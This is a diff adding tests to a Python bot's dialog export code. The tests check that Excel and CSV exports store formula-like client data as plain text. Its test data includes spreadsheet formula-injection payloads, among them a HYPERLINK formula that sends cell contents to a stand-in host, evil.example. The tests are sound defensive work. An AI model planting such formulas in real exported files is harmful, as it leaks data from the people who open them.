@@ -6,12 +6,16 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+from datetime import UTC, datetime
+from pathlib import Path
+from zoneinfo import ZoneInfo
 
 import openpyxl
 import pytest
 from sqlalchemy import Connection, select
 
 import handlers.exports
+from db.dialogs import DialogRow
 from db.engine import Database
 from db.models import AuditEntry
 from db.views import ListView, StoredView
@@ -27,8 +31,9 @@ from tests.bot_harness import (
     local_time,
 )
 from tests.emulator import BotAPIEmulator, ChatMessage, SentFile, SimulatedUser
-from views.exports import list_audit_detail
+from views.exports import list_audit_detail, write_list
 from views.formatting import format_phone
+from views.texts import texts_for
 
 HEADER = ["ID в CRM", "Клиент", "Канал", "Номер", "Кто завершил", "Начало", "Дата завершения", "Сообщений"]
 BY_DATE, BY_MESSAGES = Column.COMPLETED_AT, Column.MESSAGES
@@ -155,3 +160,50 @@ def test_the_audit_log_notes_what_was_exported() -> None:
     assert (
         filtered == "dialogs.xlsx; rows=2; sort=client asc; search=иван; channel=viber; employee=3; period=7d"
     )
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1;"Нажми")', "+7 (916) шутка", "-1+1", "@SUM(1)", "\t=1+1"]
+
+
+def hostile_rows() -> list[DialogRow]:
+    moment = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)
+    return [
+        DialogRow(
+            id=number,
+            source_id=f"=crm-{number}",
+            client_name=name,
+            client_phone="+79161234567",
+            channel="whatsapp",
+            completed_by="=1+2",
+            started_at=None,
+            completed_at=moment,
+            message_count=3,
+        )
+        for number, name in enumerate(HOSTILE, start=1)
+    ]
+
+
+def test_excel_cells_are_text_never_formulas_or_links(tmp_path: Path) -> None:
+    path = tmp_path / "dialogs.xlsx"
+    assert write_list(path, ExportFormat.XLSX, [hostile_rows()], texts_for("ru"), ZoneInfo("UTC")) == 5
+    sheet = openpyxl.load_workbook(path).active
+    assert sheet is not None
+    for row, name in enumerate(HOSTILE, start=2):
+        client, employee, source = sheet.cell(row, 2), sheet.cell(row, 5), sheet.cell(row, 1)
+        assert (client.value, client.data_type) == (name, "s")
+        assert (employee.value, employee.data_type) == ("=1+2", "s")
+        assert (source.value, source.data_type) == (f"=crm-{row - 1}", "s")
+        assert client.hyperlink is None
+        assert sheet.cell(row, 4).value == "+7 916 123-45-67"
+        assert sheet.cell(row, 8).value == 3  # a count stays a number
+
+
+def test_csv_cells_that_would_start_a_formula_are_marked_as_text(tmp_path: Path) -> None:
+    path = tmp_path / "dialogs.csv"
+    write_list(path, ExportFormat.CSV, [hostile_rows()], texts_for("ru"), ZoneInfo("UTC"))
+    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))
+    for row, name in zip(rows[1:], HOSTILE, strict=True):
+        assert row[1] == f"'{name}" and row[4] == "'=1+2" and row[0].startswith("'=crm-")
+        assert row[3] == "'+7 916 123-45-67"
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+    assert rows[1][7] == "3"
